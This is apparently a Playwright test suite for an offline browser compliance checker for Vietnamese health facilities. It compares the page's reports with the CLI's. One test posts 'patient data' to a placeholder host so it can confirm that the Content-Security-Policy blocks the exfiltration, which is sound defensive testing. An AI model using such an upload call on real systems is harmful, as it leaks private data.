import { execFileSync } from "node:child_process";
import { copyFileSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { basename, join, resolve } from "node:path";
import { pathToFileURL } from "node:url";
import iconv from "iconv-lite";
import type { BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { catalogForPacks, check, formatReport, loadCatalog, type Report } from "../src/index.js";
import { launchChromium } from "./helpers/chromium.js";

// The browser page (npm run build:web), driven in Debian's chromium as a user would: pick files, read the report.
const PAGE = resolve("web/dist/index.html");
const URL_OF_PAGE = pathToFileURL(PAGE).href;
const SCREENSHOTS = resolve("test-output");
const asOf = "2026-11-20";
const EXAMPLES = ["commune-station", "compliant-hospital", "hospital-with-evidence", "noncompliant-hospital"];

let browser: BrowserContext;
let closeBrowser: (() => Promise<void>) | undefined;
let scratch: string;

beforeAll(async () => {
  execFileSync(process.execPath, ["scripts/build-web.mjs"], { stdio: "pipe" });
  scratch = mkdtempSync(join(tmpdir(), "kcb-web-"));
  ({ browser, close: closeBrowser } = await launchChromium());
}, 180_000);

afterAll(async () => {
  await closeBrowser?.();
  if (scratch) rmSync(scratch, { recursive: true, force: true });
});

/**
 * Opens the page from disk with the evaluation date set, recording every request other than the page itself and
 * the worker it starts from its own inline code (a blob: URL, which never leaves the browser).
 */
async function openPage(viewport?: { width: number; height: number }): Promise<{ page: Page; requests: string[] }> {
  const page = await browser.newPage();
  if (viewport) await page.setViewportSize(viewport);
  const requests: string[] = [];
  page.on("request", (request) => {
    if (request.url() !== URL_OF_PAGE && !request.url().startsWith("blob:")) requests.push(request.url());
  });
  await page.goto(URL_OF_PAGE, { waitUntil: "load" });
  await page.fill("#asOf", asOf);
  return { page, requests };
}

async function checked(page: Page): Promise<void> {
  await page.waitForSelector('#status[data-state="done"]', { timeout: 60_000 });
}

/** Rule id → status, per facility, as the page's report frame shows them. */
async function pageStatuses(page: Page): Promise<Record<string, string>[]> {
  return page
    .frameLocator("#report")
    .locator("section.facility")
    .evaluateAll((sections) =>
      sections.map((section) =>
        Object.fromEntries(
          [...section.querySelectorAll<HTMLElement>("article[data-rule]")].map((rule) => [
            rule.dataset.rule,
            rule.dataset.status,
          ]),
        ),
      ),
    );
}

function cliStatuses(report: Report): Record<string, string>[] {
  return report.facilities.map((facility) => Object.fromEntries(facility.rules.map((rule) => [rule.id, rule.status])));
}

/** The CLI's JSON report for the same input, through the library call behind `kcb check --format json`. */
async function cliJson(paths: string[], profile?: string): Promise<Report> {
  return JSON.parse(
    formatReport(await check(paths, { asOf, ...(profile ? { profile } : {}) }), "json", { lang: "en" }),
  ) as Report;
}

/**
 * Vietnamese as Windows-1258 spells it: the tone marks as combining characters after a base letter that may
 * carry a circumflex, breve or horn (â, ă, ơ…), which the code page has precomposed.
 */
function windows1258Form(text: string): string {
  return text
    .normalize("NFD")
    .replace(
      /(\p{L})(\p{M}*)/gu,
      (_, base: string, marks: string) =>
        (base + marks.replace(/[^\u0302\u0306\u031B]/gu, "")).normalize("NFC") + marks.replace(/[\u0302\u0306\u031B]/gu, ""),
    );
}

describe("browser page (web/dist/index.html) in Debian chromium", () => {
  it.each(EXAMPLES)(
    "shows the CLI's rule statuses for examples/%s, with no request",
    async (example) => {
      const { page, requests } = await openPage();
      await page.setInputFiles("#folder", `examples/${example}`);
      await checked(page);
      const expected = cliStatuses(await cliJson([`examples/${example}`]));
      expect(Object.keys(expected[0]!).length).toBeGreaterThan(10);
      expect(await pageStatuses(page)).toEqual(expected);
      await expect(page.locator("#errors li").count()).resolves.toBe(0);
      expect(requests).toEqual([]);
      await page.close();
    },
    90_000,
  );

  it("says where a broken file is wrong, as the CLI does", async () => {
    const [cliError] = (await cliJson(["test/fixtures/malformed.yaml"])).facilities[0]!.errors;
    const { page } = await openPage();
    await page.setInputFiles("#files", "test/fixtures/malformed.yaml");
    await checked(page);
    await expect(page.locator("#errors li code").allTextContents()).resolves.toEqual([
      `malformed.yaml:${cliError!.location.line}:${cliError!.location.column}`,
    ]);
    await expect(page.locator("#errors li").first().textContent()).resolves.toContain(cliError!.message.vi);
    // The report frame says it too, and nothing is counted as passing.
    await expect(page.frameLocator("#report").locator("section.facility.not-assessed").count()).resolves.toBe(1);
    await page.close();
  }, 60_000);

  it("locates a missing evidence file, a TypeScript config and a raw access log it cannot read", async () => {
    const { page } = await openPage();
    // The config alone, without the CSV and XLSX files it imports.
    await page.setInputFiles("#files", [
      "examples/hospital-with-evidence/facility.yaml",
      "examples/vendor-ts/facility.config.ts",
    ]);
    await checked(page);
    const errors = await page.locator("#errors li").allTextContents();
    expect(errors).toContainEqual(
      expect.stringMatching(/^facility\.yaml:47:\d+ Tệp minh chứng "staff\.xlsx": không có trong các tệp đã chọn/u),
    );
    // Nothing to install in a browser: the page says TypeScript is not supported here, and what to do instead.
    const typeScript = (texts: string[]) => texts.filter((text) => text.startsWith("facility.config.ts:1:1 "));
    expect(typeScript(errors)).toEqual([
      "facility.config.ts:1:1 Trang kiểm tra trong trình duyệt không hỗ trợ cấu hình TypeScript. Hãy kiểm tra tệp này bằng lệnh kcb (kcb check), hoặc xuất cấu hình ra tệp YAML hay JSON rồi chọn tệp đó.",
    ]);
    await page.selectOption("#lang", "en");
    const english = typeScript(await page.locator("#errors li").allTextContents());
    expect(english).toEqual([
      "facility.config.ts:1:1 The browser page does not support TypeScript configs. Check this file with the kcb command line (kcb check), or export the config as a YAML or JSON file and pick that.",
    ]);
    expect(english.join()).not.toMatch(/npm install|ts-morph/u);
    await page.close();
  }, 60_000);

  it("decodes a Windows-1258 CSV and reads the XLSX as the CLI does", async () => {
    const folder = join(scratch, "cp1258");
    mkdirSync(folder, { recursive: true });
    for (const file of readdirSync("examples/hospital-with-evidence"))
      copyFileSync(join("examples/hospital-with-evidence", file), join(folder, file));
    const trainings = readFileSync(join(folder, "trainings.csv"), "utf8");
    const legacy = iconv.encode(windows1258Form(trainings), "windows-1258");
    expect(iconv.decode(legacy, "windows-1258").normalize("NFC")).toBe(trainings.normalize("NFC"));
    expect(() => new TextDecoder("utf-8", { fatal: true }).decode(legacy)).toThrow();
    writeFileSync(join(folder, "trainings.csv"), legacy);
    const expected = cliStatuses(await cliJson([folder]));
    expect(expected).toEqual(cliStatuses(await cliJson(["examples/hospital-with-evidence"])));
    const { page } = await openPage();
    await page.setInputFiles("#folder", folder);
    await checked(page);
    expect(await pageStatuses(page)).toEqual(expected);
    await page.close();
  }, 90_000);

  it("takes dropped files", async () => {
    const { page } = await openPage();
    const text = readFileSync("examples/commune-station/facility.yaml", "utf8");
    const transfer = await page.evaluateHandle((content) => {
      const data = new DataTransfer();
      data.items.add(new File([content], "facility.yaml", { type: "application/yaml" }));
      return data;
    }, text);
    await page.dispatchEvent("#drop", "drop", { dataTransfer: transfer });
    await checked(page);
    expect(await pageStatuses(page)).toEqual(cliStatuses(await cliJson(["examples/commune-station"])));
    await page.close();
  }, 60_000);

  it("takes files dropped beside the drop box instead of letting the browser open them in place of the page", async () => {
    const { page } = await openPage();
    const text = readFileSync("examples/commune-station/facility.yaml", "utf8");
    const transfer = await page.evaluateHandle((content) => {
      const data = new DataTransfer();
      data.items.add(new File([content], "facility.yaml", { type: "application/yaml" }));
      return data;
    }, text);
    const dragOver = await page.evaluate(() => {
      const event = new DragEvent("dragover", { bubbles: true, cancelable: true });
      document.querySelector("header")!.dispatchEvent(event);
      return event.defaultPrevented;
    });
    expect(dragOver).toBe(true);
    await page.dispatchEvent("#status", "drop", { dataTransfer: transfer });
    await checked(page);
    expect(page.url()).toBe(URL_OF_PAGE);
    expect(await pageStatuses(page)).toEqual(cliStatuses(await cliJson(["examples/commune-station"])));
    await page.close();
  }, 60_000);

  it("says what to do when Check is pressed too early, and checks a file again once it is edited and picked again", async () => {
    const folder = join(scratch, "edited");
    mkdirSync(folder, { recursive: true });
    const file = join(folder, "facility.yaml");
    copyFileSync("test/fixtures/malformed.yaml", file);
    const { page } = await openPage();
    await page.click("#run");
    await expect(page.locator("#status").textContent()).resolves.toBe("Hãy chọn tệp cấu hình (hoặc cả thư mục) trước.");
    await page.setInputFiles("#files", file);
    await checked(page);
    await expect(page.locator("#errors li").count()).resolves.toBe(1);
    // The user fixes the file in an editor; Chrome will not read the old pick of a changed file, and the page says so.
    await new Promise((resolve) => setTimeout(resolve, 1100)); // a new modification time, to the second
    copyFileSync("examples/commune-station/facility.yaml", file);
    await page.click("#run");
    await page.waitForSelector('#status[data-state="failure"]');
    await expect(page.locator("#status").textContent()).resolves.toMatch(/^Một tệp đã thay đổi sau khi được chọn; hãy chọn lại/u);
    // Picking the same file again is a new pick (the input was emptied), and the edited file is checked.
    await page.setInputFiles("#files", file);
    await checked(page);
    await expect(page.locator("#errors li").count()).resolves.toBe(0);
    expect(await pageStatuses(page)).toEqual(cliStatuses(await cliJson(["examples/commune-station"])));
    await page.close();
  }, 90_000);

  it("gives the batch summary for several configs, the English report, the chosen profile, and the downloads", async () => {
    const { page, requests } = await openPage();
    await page.selectOption("#profile", "thanh-hoa");
    await page.setInputFiles("#folder", "examples");
    await checked(page);
    const cli = await cliJson(["examples"], "thanh-hoa");
    // One row per facility in the facility × clause matrix (its head has two rows).
    const summaryRows = page.frameLocator("#summary").locator("table.matrix tbody tr");
    await expect(summaryRows.count()).resolves.toBe(cli.facilities.length);
    await expect(page.frameLocator("#report").locator(".meta code").first().textContent()).resolves.toBe("thanh-hoa");
    await expect(page.frameLocator("#report").locator("h1").textContent()).resolves.toContain("Báo cáo tuân thủ");
    await page.selectOption("#lang", "en");
    await checked(page);
    await expect(page.frameLocator("#report").locator("h1").textContent()).resolves.toContain("Compliance report");

    const downloaded = async (kind: string): Promise<string> => {
      const [download] = await Promise.all([page.waitForEvent("download"), page.click(`[data-download="${kind}"]`)]);
      return readFileSync(await download.path(), "utf8");
    };
    const json = JSON.parse(await downloaded("json")) as Report;
    expect(json.profile.name).toBe("thanh-hoa");
    // vendor-ts (a TypeScript config) is not assessed in the page; every other facility matches the CLI.
    const pageFacilities = json.facilities.filter((facility) => facility.errors.length === 0);
    const cliFacilities = cli.facilities.filter((facility) => !facility.file.endsWith(".ts"));
    expect(cliStatuses({ ...json, facilities: pageFacilities })).toEqual(cliStatuses({ ...cli, facilities: cliFacilities }));
    const sarif = JSON.parse(await downloaded("sarif"));
    expect(sarif.version).toBe("2.1.0");
    expect(sarif.runs[0].results.length).toBeGreaterThan(0);
    await expect(downloaded("html")).resolves.toContain("Compliance report");
    await expect(downloaded("summary")).resolves.toContain('<table class="matrix">');
    expect(requests).toEqual([]);
    await page.close();
  }, 120_000);

  it("reads a profile file picked in the page", async () => {
    const profile = join(scratch, "district.yaml");
    writeFileSync(profile, "name: district-test\nextends: national\nparams:\n  accessReviewMaxDays: 1\n");
    const { page } = await openPage();
    await page.selectOption("#profile", "file");
    await page.setInputFiles("#profile-file", profile);
    await page.setInputFiles("#folder", "examples/compliant-hospital");
    await checked(page);
    await expect(page.frameLocator("#report").locator(".meta code").first().textContent()).resolves.toBe("district-test");
    expect(await pageStatuses(page)).toEqual(cliStatuses(await cliJson(["examples/compliant-hospital"], profile)));
    await page.close();
  }, 60_000);

  it("makes no network request even when asked to: the Content-Security-Policy refuses it", async () => {
    const { page, requests } = await openPage();
    const violated = await page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective));
          void fetch("https://example.invalid/upload", { method: "POST", body: "patient data" }).catch(() => undefined);
        }),
    );
    expect(violated).toBe("connect-src");
    expect(requests).toEqual([]);
    await page.close();
  }, 30_000);

  // Not timed here (bench/web.mjs measures it); it must finish with the CLI's statuses.
  it("checks a 1 MB config (the 2,330-staff hospital of bench/) with the CLI's statuses", async () => {
    const file = join(scratch, "hospital.yaml");
    execFileSync(process.execPath, ["bench/hospital.mjs", "--out", file, "--as-of", asOf], { stdio: "pipe" });
    expect(statSync(file).size).toBeGreaterThan(900_000);
    const expected = cliStatuses(await cliJson([file]));
    // The default pack: the page, like `kcb check`, runs opt-in packs only when a profile enables them.
    expect(Object.keys(expected[0]!)).toHaveLength(catalogForPacks(loadCatalog(), []).rules.length);
    const { page } = await openPage();
    await page.setInputFiles("#files", file);
    await page.waitForSelector('#status[data-state="done"]', { timeout: 280_000 });
    await expect(page.locator("#errors li").count()).resolves.toBe(0);
    expect(await pageStatuses(page)).toEqual(expected);
    await expect(page.frameLocator("#report").locator("section.facility h3").textContent()).resolves.toContain(basename(file));
    await page.close();
  }, 300_000);

  it("fits a 412 px wide phone screen", async () => {
    const { page } = await openPage({ width: 412, height: 915 });
    await page.setInputFiles("#folder", "examples/noncompliant-hospital");
    await checked(page);
    await page.frameLocator("#report").locator("h1").waitFor();
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(412);
    mkdirSync(SCREENSHOTS, { recursive: true });
    await page.screenshot({ path: join(SCREENSHOTS, "web-page-412.png"), fullPage: true });
    await page.close();
  }, 60_000);
});
